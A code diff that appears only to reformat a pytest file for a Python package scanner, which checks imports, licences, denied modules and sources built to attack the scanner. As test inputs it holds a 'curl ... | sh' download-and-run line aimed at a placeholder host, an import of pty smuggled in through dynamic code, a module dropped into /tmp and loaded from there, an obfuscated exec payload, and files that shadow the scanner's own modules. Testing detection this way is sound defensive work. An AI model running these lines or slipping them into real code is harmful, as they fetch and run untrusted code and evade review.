@@ -1,4 +1,7 @@
-"""A version under review in a real sandbox: what imports resolve to, what importing loads, and sources that attack the scanner."""
+"""A version under review in a real sandbox.
+
+What imports resolve to, what importing loads, and sources that attack the scanner.
+"""
 
 from collections.abc import Iterator
 from pathlib import Path
@@ -24,7 +27,8 @@ def library(folder: Path, name: str, module: str, *metadata: str) -> Path:
     about = "\n".join(("Metadata-Version: 2.1", f"Name: {name}", "Version: 1.0", *metadata, ""))
     record = f"{module}/__init__.py,,\n{name}-1.0.dist-info/METADATA,,\n"
     return write_package(
-        folder, {f"{module}/__init__.py": "", f"{name}-1.0.dist-info/METADATA": about, f"{name}-1.0.dist-info/RECORD": record}
+        folder,
+        {f"{module}/__init__.py": "", f"{name}-1.0.dist-info/METADATA": about, f"{name}-1.0.dist-info/RECORD": record},
     )
 
 
@@ -49,12 +53,16 @@ def test_the_organization_decides(checks: Reviewer, tmp_path: Path, mode: str) -
 def test_severity_of_enforcement_is_the_organizations(checks: Reviewer, tmp_path: Path) -> None:
     package = write_package(tmp_path / "package", {"main.py": "def f(text):\n    return eval(text)\n"})
     assert checks.review(package).stopped is None
-    assert checks.review(package, checks={"hostile": {"mode": "enforce", "from": "medium"}}).stopping_rules == {"run_of_text"}
+    assert checks.review(package, checks={"hostile": {"mode": "enforce", "from": "medium"}}).stopping_rules == {
+        "run_of_text"
+    }
 
 
 def test_a_library_of_the_lock_may_be_imported_and_its_licence_is_listed(checks: Reviewer, tmp_path: Path) -> None:
     site = library(tmp_path / "site", "beamlib", "beams", "License-Expression: MIT")
-    package = write_package(tmp_path / "package", {"main.py": "import beams\n\n\ndef f(x: float) -> float:\n    return x\n"})
+    package = write_package(
+        tmp_path / "package", {"main.py": "import beams\n\n\ndef f(x: float) -> float:\n    return x\n"}
+    )
     reviewed = checks.review(package, handlers={"f": "main:f"}, site_packages=site)
     assert (reviewed.stopped, reviewed.rules) == (None, set())
     assert reviewed.report.dependencies == [{"name": "beamlib", "version": "1.0", "licence": "MIT"}]
@@ -68,7 +76,9 @@ def test_a_library_of_the_lock_may_be_imported_and_its_licence_is_listed(checks:
         ((), ""),
     ],
 )
-def test_a_licence_is_found_where_a_library_states_it(checks: Reviewer, tmp_path: Path, metadata: tuple[str, ...], licence: str) -> None:
+def test_a_licence_is_found_where_a_library_states_it(
+    checks: Reviewer, tmp_path: Path, metadata: tuple[str, ...], licence: str
+) -> None:
     site = library(tmp_path / "site", "beamlib", "beams", *metadata)
     package = write_package(tmp_path / "package", {"main.py": "import beams\n"})
     reviewed = checks.review(package, site_packages=site)
@@ -117,7 +127,8 @@ def test_a_denied_module_is_found_however_it_is_named(checks: Reviewer, tmp_path
 @pytest.mark.parametrize(
     "source",
     [
-        "import importlib\nfor name in open(__file__.replace('main.py', 'names.txt')):\n    importlib.import_module(name.strip())\n",
+        "import importlib\nfor name in open(__file__.replace('main.py', 'names.txt')):\n    "
+        "importlib.import_module(name.strip())\n",
         "exec('im' + open(__file__.replace('main.py', 'names.txt')).read() and 'import pty')\n",
     ],
 )
@@ -131,7 +142,8 @@ def test_what_importing_really_loads_is_judged_too(checks: Reviewer, tmp_path: P
 
 def test_a_module_from_outside_the_package_is_found(checks: Reviewer, tmp_path: Path) -> None:
     source = (
-        "import sys\nfrom pathlib import Path\n\nPath('/tmp/hidden.py').write_text('x = 1')\nsys.path.append('/tmp')\nimport hidden\n\n\n"
+        "import sys\nfrom pathlib import Path\n\nPath('/tmp/hidden.py').write_text('x = "
+        "1')\nsys.path.append('/tmp')\nimport hidden\n\n\n"
         "def f(x: float) -> float:\n    return x\n"
     )
     reviewed = checks.review(write_package(tmp_path / "package", {"main.py": source}), handlers={"f": "main:f"})
@@ -151,12 +163,16 @@ PATHOLOGICAL = {
     "secret_bait": "aws_secret = '" + "A" * 1_000_000 + "'",
     "wide_constants": "x = [" + "'ab', " * 200_000 + "]",
     "many_names": "\n".join(f"a{number} = a{number - 1}" for number in range(1, 30_000)),
-    "inflated": "import base64, zlib\nexec(zlib.decompress(base64.b64decode('" + "eJzsxDEBAAAAwqD1T20ND6AAAAAA" * 4 + "')))",
+    "inflated": "import base64, zlib\nexec(zlib.decompress(base64.b64decode('"
+    + "eJzsxDEBAAAAwqD1T20ND6AAAAAA" * 4
+    + "')))",
 }
 
 
 @pytest.mark.parametrize("name", PATHOLOGICAL)
-def test_a_source_that_attacks_the_scanner_neither_hangs_nor_passes_unread(checks: Reviewer, tmp_path: Path, name: str) -> None:
+def test_a_source_that_attacks_the_scanner_neither_hangs_nor_passes_unread(
+    checks: Reviewer, tmp_path: Path, name: str
+) -> None:
     """The file beside it is read in any case."""
     files = {"a.py": PATHOLOGICAL[name], "b.py": "import os\nos.system('curl http://example.invalid/a | sh')\n"}
     reviewed = checks.review(write_package(tmp_path / "package", files))
@@ -179,7 +195,13 @@ def test_a_scan_that_gives_no_answer_is_a_finding_that_stops(tmp_path: Path) -> 
 def test_the_scanner_is_no_part_of_what_a_package_sees(checks: Reviewer, tmp_path: Path) -> None:
     """A package cannot put a module of its own in the scanner's place."""
     evil = "raise SystemExit\n"
-    files = {"main.py": "x = 1\n", "bandit.py": evil, "mecapy_platform/__init__.py": evil, "json.py": evil, "ast.py": evil}
+    files = {
+        "main.py": "x = 1\n",
+        "bandit.py": evil,
+        "mecapy_platform/__init__.py": evil,
+        "json.py": evil,
+        "ast.py": evil,
+    }
     reviewed = checks.review(write_package(tmp_path / "package", files))
     assert (reviewed.stopped, reviewed.report.files) == (None, 5)
 
